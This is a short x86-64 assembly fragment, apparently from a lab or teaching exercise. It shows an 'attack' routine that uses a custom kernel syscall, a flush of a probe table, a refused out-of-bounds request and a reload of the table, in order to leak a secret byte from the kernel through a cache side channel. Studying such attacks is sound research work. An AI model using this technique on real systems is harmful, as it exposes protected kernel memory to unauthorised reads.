    .text
# attack(RDI = index of a byte of the secret) -> RAX = the byte, or -1
attack:
    mov r12, rdi
    mov eax, 1000           # the kernel uses its secret
    mov edi, 2
    syscall
    call flush_table
    mov eax, 1000           # to be done: this index is refused, and the processor knows it at once
    xor edi, edi
    mov rsi, r12
    mov edx, 0x10000000
    mov r10d, 12
    syscall
    call reload_table
    ret
